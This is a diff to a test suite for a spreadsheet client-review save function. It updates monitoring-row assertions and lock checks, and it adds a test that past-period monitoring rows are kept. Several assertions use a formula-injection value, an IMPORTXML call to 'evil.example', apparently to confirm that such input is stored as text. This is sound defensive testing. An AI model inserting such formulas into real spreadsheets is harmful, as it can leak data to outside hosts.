@@ -98,6 +98,7 @@ describe('saveClientReview', () => {
       row: 2,
       monitoringSheet: 'Мониторинг',
       monitoringRow: 2,
+      monitoringUpdated: false,
     });
     const c = rowOf(wb, 'Клиенты', clients, 2);
     expect(c.name).toBe('=IMPORTXML("http://evil.example"; "//a")');
@@ -107,7 +108,6 @@ describe('saveClientReview', () => {
     expect(c.contact).toBe('@home');
     expect(c.phone).toBe('+7 999 123-45-67');
     expect(c.purchasesBefore).toBe(1000000);
-    expect(c.retailChange).toBeCloseTo(-0.12, 12);
     expect(c.priceAsked).toBe('Да');
     expect(c.segment).toBe('2 — Падение зафиксировано');
     expect(c.action).toBe(texts.ru.segment.actions[2]);
@@ -115,6 +115,9 @@ describe('saveClientReview', () => {
     const m = rowOf(wb, 'Мониторинг', monitoring as typeof clients, 2);
     expect(m.client).toBe('=IMPORTXML("http://evil.example"; "//a")');
     expect(m.ourSalesDynamics).toBeCloseTo(-0.08, 12);
+    expect(m.totalSalesDynamics).toBeCloseTo(-0.12, 12);
+    expect(m.solvencyDynamics).toBe(5);
+    expect(m.segment).toBe('2 — Падение зафиксировано');
     expect(wb.activeSheetName()).toBe('Клиенты');
   });
 
@@ -124,15 +127,16 @@ describe('saveClientReview', () => {
     const formulas = wb.formulas('Clients', '2:2');
     wb.resetCalls();
     const result = run('saveClientReview', review, 'new') as { row: number; monitoringRow: number };
-    expect(result).toMatchObject({ status: 'saved', row: 14, monitoringRow: 5 });
+    // Below the sample clients, and below the three months of their history.
+    expect(result).toMatchObject({ status: 'saved', row: 14, monitoringRow: 38 });
     const byMethod = wb.callsByMethod();
     expect(byMethod['Range.setValues']).toBe(2);
     expect(byMethod['Range.setValue'] ?? 0).toBe(0);
     expect(byMethod['Range.getValues']).toBeLessThanOrEqual(4);
-    expect(byMethod['Lock.waitLock']).toBe(1);
+    expect(byMethod['Lock.tryLock']).toBe(1);
     expect(byMethod['Lock.releaseLock']).toBe(1);
     const writes = wb.writes().filter((w) => w.call === 'Range.setValues');
-    expect(writes.map((w) => w.target)).toEqual(['Clients!A14:O14', 'Monitoring!A5:Y5']);
+    expect(writes.map((w) => w.target)).toEqual(['Clients!A14:M14', 'Monitoring!A38:Z38']);
     for (const w of writes) expect(w.locks).toContain('document');
     expect(wb.formulas('Clients', '2:2')).toEqual(formulas);
     expect(rowOf(wb, 'Clients', clients, 14).name).toBe('=IMPORTXML("http://evil.example"; "//a")');
@@ -163,7 +167,7 @@ describe('saveClientReview', () => {
     const writes = wb
       .writes()
       .filter((w) => w.call === 'Range.setValues' && w.target.startsWith('Клиенты!A2'));
-    expect(writes.map((w) => w.target)).toEqual(['Клиенты!A2:J2']);
+    expect(writes.map((w) => w.target)).toEqual(['Клиенты!A2:H2']);
     const c = rowOf(wb, 'Клиенты', clients, 2);
     expect(c.phone).toBe('+7 999 123-45-67');
     expect(c.nextContact).toEqual(new Date(2026, 11, 3));
@@ -180,9 +184,15 @@ describe('saveClientReview', () => {
     expect(wb.writes()).toEqual([]);
   });
 
-  it('asks before touching a client of the same name, and replaces its row only when told to', () => {
+  it('asks before touching a client of the same name, and updates it and this period’s row only when told to', () => {
     const { wb, run } = workbook('ru_RU');
     run('saveClientReview', form({ name: 'ТД «Северный»', region: 'Питер', retailChange: '-20%' }), 'new');
+    wb.asUser((ss) =>
+      ss
+        .getSheetByName('Клиенты')!
+        .getRange('H2:I2')
+        .setValues([[500000, 30]]),
+    );
     wb.resetCalls();
     const again = form({ name: '  тд   «северный» ', retailForecast: '-10%' });
     expect(run('saveClientReview', again, 'new')).toEqual({
@@ -196,17 +206,46 @@ describe('saveClientReview', () => {
       status: 'saved',
       updated: true,
       row: 2,
+      monitoringRow: 2,
+      monitoringUpdated: true,
     });
     const c = rowOf(wb, 'Клиенты', clients, 2);
     expect(c.name).toBe('тд   «северный»');
     expect(c.region).toBe('');
+    // What the review doesn't ask stays.
+    expect([c.creditLimit, c.paymentTerms]).toEqual([500000, 30]);
     expect(c.segment).toBe('1 — Ожидает падения');
     expect(wb.values('Клиенты', 'A3')).toEqual([['']]);
-    expect(wb.values('Мониторинг', 'A2:A4').map((r) => r[0])).toEqual([
-      'ТД «Северный»',
-      'тд   «северный»',
-      '',
-    ]);
+    expect(wb.values('Мониторинг', 'A2:A3').map((r) => r[0])).toEqual(['тд   «северный»', '']);
+  });
+
+  it('never writes over a Monitoring row of another period: an update adds this period’s row', () => {
+    const { wb, run } = workbook('ru_RU');
+    run(
+      'saveClientReview',
+      form({ name: 'Дон-Трейд', retailChange: '-20%', purchasesNow: '400 000' }),
+      'new',
+    );
+    // Last month's review, moved back a month as if saved then.
+    wb.asUser((ss) =>
+      ss
+        .getSheetByName('Мониторинг')!
+        .getRange('B2')
+        .setValue(new Date(2026, 9, 1)),
+    );
+    const before = wb.values('Мониторинг', 'A2:Z2');
+    expect(
+      run(
+        'saveClientReview',
+        form({ name: 'Дон-Трейд', retailChange: '-2%', purchasesNow: '300 000' }),
+        'update',
+      ),
+    ).toMatchObject({ status: 'saved', monitoringRow: 3, monitoringUpdated: false });
+    expect(wb.values('Мониторинг', 'A2:Z2')).toEqual(before);
+    const m = rowOf(wb, 'Мониторинг', monitoring as typeof clients, 3);
+    expect(m.shipmentsChange).toBe(-0.25);
+    expect(m.segmentChange).toBe('2 → 0');
+    expect(rowOf(wb, 'Клиенты', clients, 2).segmentChange).toBe('2 → 0');
   });
 
   it('checks the form again and writes nothing when it is bad, whatever the browser let through', () => {
@@ -223,7 +262,7 @@ describe('saveClientReview', () => {
       ],
     });
     expect(wb.writes()).toEqual([]);
-    expect(wb.callsByMethod()['Lock.waitLock'] ?? 0).toBe(0);
+    expect(wb.callsByMethod()['Lock.tryLock'] ?? 0).toBe(0);
   });
 
   it('says so when another save holds the workbook, and writes nothing', () => {
